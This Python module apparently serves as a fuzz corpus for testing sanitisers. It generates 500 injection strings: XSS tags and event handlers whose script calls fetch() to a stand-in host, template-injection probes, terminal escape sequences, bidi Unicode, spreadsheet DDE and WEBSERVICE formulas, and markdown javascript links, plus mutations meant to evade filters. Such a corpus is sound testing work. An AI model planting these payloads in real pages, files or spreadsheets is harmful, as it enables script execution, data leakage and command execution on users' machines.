"""Five hundred texts that would do harm where they are not taken as text: HTML, bidi, terminals, formulas, markup."""

ACT = "document.documentElement.dataset.harmed=1;alert(1);fetch('https://harm.example/x')"
URL = "https://harm.example/y"

ELEMENTS = [
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</style><script>{ACT}</script><style>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</svg><script>{ACT}</script>",
    f"<!--><script>{ACT}</script-->",
    f"]]><script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f"<img src='{URL}'>",
    f"<image href='{URL}' onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{ACT}'><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={ACT}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<math href='javascript:{ACT}'>x</math>",
    f"<iframe src='{URL}'></iframe>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    f"<object data='{URL}'></object>",
    f"<embed src='{URL}'>",
    f"<link rel=stylesheet href='{URL}'>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<base href='{URL}'>",
    f"<form action='{URL}'><button autofocus onfocus={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<video src=x onerror={ACT}></video>",
    f"<audio src='{URL}' autoplay onerror={ACT}>",
    f"<body onload={ACT}>",
    f"<a href='javascript:{ACT}' id=reveal>x</a>",
    "<style>*{background:url(https://harm.example/z)}</style>",
    "<style>@import 'https://harm.example/z'</style>",
    f"<template><script>{ACT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<plaintext><xmp><script>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<img src=x:x onerror\x0b={ACT}>",
    f"<a\x00href='javascript:{ACT}'>",
]
ATTRIBUTES = [
    f'" onmouseover="{ACT}" x="',
    f"' onmouseover='{ACT}' x='",
    f'"><img src=x onerror={ACT}>',
    f"'><svg/onload={ACT}>",
    f"` onload={ACT} `",
    f'" autofocus onfocus={ACT} tabindex=1 "',
    f'" style="background:url({URL})',
    f"javascript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    '"/><input type=checkbox checked id=reveal>',
    'x" data-o="0" class="item',
    "&quot; onload=&quot;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% raw %}{{ x }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %s %n {x!r:>9999}",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://harm.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H gone",
    "\x1bP+q544e\x1b\\",
    "\x1b]52;c;aGk=\x07",
    "\x9b31m eight bits",
    "\x9d0;title\x9c",
    "bell \x07 back \x08\x08 null \x00 return \rover",
    "one\ntwo\r\nthree\x0bfour\x0cfive\x85six",
    "[red]rich[/red] [link=https://harm.example]x[/link] [/] [bold",
    "\x7f\x7f delete",
]
UNICODE = [
    "\u202eevil\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "user\u200b\u200c\u200dname\ufeff",
    "\u2028\u2029 line separators",
    "\u061c\u200e\u200f marks",
    "\ufdfd\U0001f600\u0301\u0301\u0301",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\U000e0041\U000e0042 tags",
    "\ud800 half a pair",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://harm.example","x")',
    '=IMPORTXML("https://harm.example","//a")',
    "=WEBSERVICE('https://harm.example')",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "a,=1+1",
    "a;=1+1",
    'a",=1+1,"',
    "a\n=1+1",
    "-5",
    "1e400",
]
MARKDOWN = [
    f"[x](javascript:{ACT})",
    "![x](https://harm.example/y)",
    "<https://harm.example>",
    "https://harm.example www.harm.example",
    "| a | b |\n| - | - |",
    "`code` **bold** _em_ ~~gone~~ # head",
    "$\\href{javascript:alert(1)}{x}$ $$x$$",
    "[^1]: note [ref]: https://harm.example",
    "--- *** ===",
    "\\<script\\>",
]


def payloads(count: int = 500) -> list[str]:
    """`count` different texts: every one above as it is, then changed in ways that filters are known to miss."""
    base = [*ELEMENTS, *ATTRIBUTES, *TEMPLATES, *TERMINAL, *UNICODE, *FORMULAS, *MARKDOWN]
    changes = [
        lambda text: text,
        lambda text: f"{text}\x1b[0m\u202e",
        lambda text: f"</script></style></title>{text}",
        lambda text: f"'>{text}",
        lambda text: text.replace("<", "\u00ad<").replace(" ", "\t"),
        lambda text: f'"{text.upper()}',
    ]
    found = dict.fromkeys(change(text) for change in changes for text in base)
    if len(found) < count:
        raise ValueError(f"only {len(found)} texts")
    return list(found)[:count]
